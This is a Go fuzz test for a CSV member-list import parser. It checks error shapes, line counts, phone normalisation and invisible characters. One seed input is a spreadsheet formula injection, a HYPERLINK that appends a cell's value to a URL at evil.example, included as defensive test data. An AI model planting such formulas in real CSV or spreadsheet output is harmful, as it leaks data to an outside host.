package members

import (
	"errors"
	"strings"
	"testing"

	"github.com/loa-vn/loa/store"
)

// FuzzMembersCSV feeds the member-list parser arbitrary files: it must never
// panic (issue 9, item 1: a quote panicked in FieldPos), and what it accepts
// must be what the import may store. Finds live in testdata/fuzz.
func FuzzMembersCSV(f *testing.F) {
	for _, s := range []string{
		"name,phone\nNguyễn Văn A,0912345678\n",
		"\ufeffhọ tên;số điện thoại;chức vụ;phường/xã\nA;0912 345 678;Chuyên viên;Hoàn Kiếm\n",
		"name,phone\n=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\"),0912345678\n",
		"name,phone\n\"unclosed,0912345678\nB,0987654321\n",
		"name,phone,position,locality\nA,0912345678,x,y,z\n\n,\n",
		"name,phone\n\"a\"\"b\",+84 912-345-678\r\n",
	} {
		f.Add([]byte(s))
	}
	resolve := func(cell string) (*int64, error) {
		if cell == "phuong-hoan-kiem" {
			id := int64(1)
			return &id, nil
		}
		return nil, errors.New("unknown ward/commune")
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		res, err := ParseCSV(data, resolve)
		if err != nil {
			var fe *FileError
			if !errors.As(err, &fe) || fe.Message == "" || fe.Code == "" {
				t.Fatalf("error is not a FileError with a message and a code: %v", err)
			}
			return
		}
		lines := map[int]bool{}
		for _, b := range res.Bad {
			if b.Line < 2 || b.Reason == "" || b.Code == "" {
				t.Fatalf("bad line %+v", b)
			}
			lines[b.Line] = true
		}
		if len(res.Rows)+len(lines) != res.Total {
			t.Fatalf("%d rows + %d bad lines != total %d", len(res.Rows), len(lines), res.Total)
		}
		for _, r := range res.Rows {
			if _, err := store.NormalizePhone(r.Phone); err != nil || strings.TrimSpace(r.Name) == "" {
				t.Fatalf("accepted row %+v (%v)", r, err)
			}
			if _, bad := store.InvisibleRune(r.Name + r.Position); bad {
				t.Fatalf("accepted invisible characters in %+v", r)
			}
		}
	})
}
